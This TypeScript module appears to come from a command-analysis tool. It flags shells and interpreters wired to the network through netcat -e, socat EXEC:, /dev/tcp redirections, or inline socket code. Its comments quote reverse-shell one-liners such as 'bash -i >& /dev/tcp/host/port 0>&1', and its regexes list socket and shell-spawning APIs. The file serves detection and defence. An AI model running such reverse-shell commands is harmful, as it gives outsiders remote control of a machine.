// Shells and interpreters that are connected to the network: by an option (`nc -e`, `socat EXEC:`), by a pipe in one direction or
// both, by a redirection (`/dev/tcp`), or by code of another language.

import type { CallKind } from "../../language/call-kinds.ts";
import { FALSE, TRUE, type Truth, UNKNOWN } from "../../language/truth.ts";
import { effectsOf } from "../effects/effects.ts";
import { socketName } from "../effects/flow-ends.ts";
import { codeInput } from "../embedded/other-languages/code-input.ts";
import { inlineTexts } from "../embedded/other-languages/inline-texts.ts";
import { type FlowGraph, flowGraph, outputReaches } from "../flows/flows.ts";
import type { CalledProgram } from "../programs/called-programs.ts";
import type { UserPrograms } from "../programs/index.ts";
import { hasOption, type OptionReading } from "../programs/table/options.ts";
import type { Call, Reading } from "../syntax/model.ts";
import { addKind, type KindDraft } from "./kind-draft.ts";

type DraftOf = (call: Call) => KindDraft;

export function addNetworkShells(
  reading: Reading,
  called: readonly CalledProgram[],
  draftOf: DraftOf,
  extra: UserPrograms,
): void {
  let graph: FlowGraph | null = null;
  for (const { call, reading: options } of called) {
    if (options !== null && !options.help) addCode(call, options, draftOf);
    if (isOnSocket(call, options)) addKind(draftOf(call), "calls-out", TRUE);
    const connection = options === null || options.help ? null : connectionOf(options);
    if (connection === null) continue;
    graph ??= flowGraph(reading, (one) => effectsOf(one, extra), extra);
    const found = connection.runs ? TRUE : shellAt(call, called, graph);
    if (found !== FALSE) addKind(draftOf(call), connection.kind, found);
  }
}

interface Connection {
  readonly kind: CallKind & ("listens" | "calls-out");
  /** It starts a program itself. */
  readonly runs: boolean;
}

const plainClients: ReadonlySet<string> = new Set(["telnet", "websocat", "openssl"]);

/** A program that passes on what it receives. */
function connectionOf(reading: OptionReading): Connection | null {
  const { table, operands, options } = reading;
  const runs = options.some(({ row, on }) => on && row.code !== undefined);
  if (table.special === "netcat" && hasListenOption(table))
    return { kind: hasOption(reading, "-l") ? "listens" : "calls-out", runs };
  if (table.name === "socat") {
    const listens = operands.some(({ text }) => /^[\w-]*(?:-listen|-l|-recvfrom|-recv):/i.test(text) && !isLocal(text));
    const connects = listens || operands.some(({ text }) => /^(?:tcp|udp|sctp|openssl|ssl|proxy|socks)/i.test(text));
    const starts = operands.some(({ text }) => /^(?:exec:|system:|shell(?::|$))/i.test(text));
    return connects ? { kind: listens ? "listens" : "calls-out", runs: starts } : null;
  }
  if (!plainClients.has(table.name)) return null;
  if (table.name === "openssl" && operands[0]?.text !== "s_client") return null;
  return { kind: "calls-out", runs };
}

const isLocal = (address: string): boolean => /^unix/i.test(address) || /bind=(?:localhost|127\.)/i.test(address);

const hasListenOption = ({ options }: OptionReading["table"]): boolean =>
  options.some(({ flags }) => flags.includes("--listen"));

/** What it receives runs, or a shell that takes commands from elsewhere sends it its output. */
function shellAt({ id, stdin }: Call, called: readonly CalledProgram[], graph: FlowGraph): Truth {
  const runs = outputReaches(graph, id, "interpreter");
  if (runs === TRUE || stdin.from !== "calls") return runs;
  const feeds = called.some(
    ({ call, reading }) =>
      stdin.calls.includes(call.id) && reading !== null && codeInput(reading).stdin && !isFedByLine(call),
  );
  return feeds ? TRUE : runs;
}

/** `echo 'uname -a' | sh | nc host 9999`: what it runs is on the line. */
const isFedByLine = ({ stdin }: Call): boolean => stdin.from !== "inherit" && stdin.text?.kind === "literal";

/** `bash -i >& /dev/tcp/host/port 0>&1`, `sh < /dev/tcp/host/port`. */
function isOnSocket({ redirects }: Call, reading: OptionReading | null): boolean {
  if (redirects.length === 0 || reading === null || reading.table.interpreter?.language !== "shell") return false;
  return redirects.some(({ target }) => socketName.test(target.text)) && codeInput(reading).stdin;
}

/** Code that opens or accepts connections. */
const connects =
  /\bsocket\b|\bfsockopen\b|\bpfsockopen\b|stream_socket_|TCPSocket|TCPServer|IO::Socket|\/inet\/tcp\/|\bnet\.(?:connect|Socket|createConnection|createServer|Dial|Listen)|require\(["'`](?:node:)?(?:net|tls|dgram)["'`]\)|socket\.tcp\b/;
const listening = /\blisten\b|\bTCPServer\b|\bcreateServer\b|stream_socket_server|\bListen\s*=>|\baccept\b/i;
/** Code that starts a shell, connects its own streams to something else, or runs what it receives. */
const attaches =
  /["'`/\s(](?:ba|z|da|k|a)?sh["'`\s,)]|\bcmd(?:\.exe)?["'`]|\bpowershell|\bpty\b|\bdup2\s*\(|\b(?:exec\w*|eval|system|popen|check_output|getoutput|run|Popen|shell_exec|passthru|proc_open|spawn)\b[^;\n]{0,80}\b(?:recv|read\w*|gets|data|cmd|command|line)\b|\|&[ \t]*getline\b[^\0]*\|&[ \t]*getline\b/;

/** A look at code of another language proves nothing. */
function addCode(call: Call, reading: OptionReading, draftOf: DraftOf): void {
  const { interpreter } = reading.table;
  if (interpreter === undefined || interpreter.language === "shell" || interpreter.language === "sql") return;
  for (const { text } of inlineTexts(call, reading))
    if (connects.test(text) && attaches.test(text))
      addKind(draftOf(call), listening.test(text) ? "listens" : "calls-out", UNKNOWN);
}
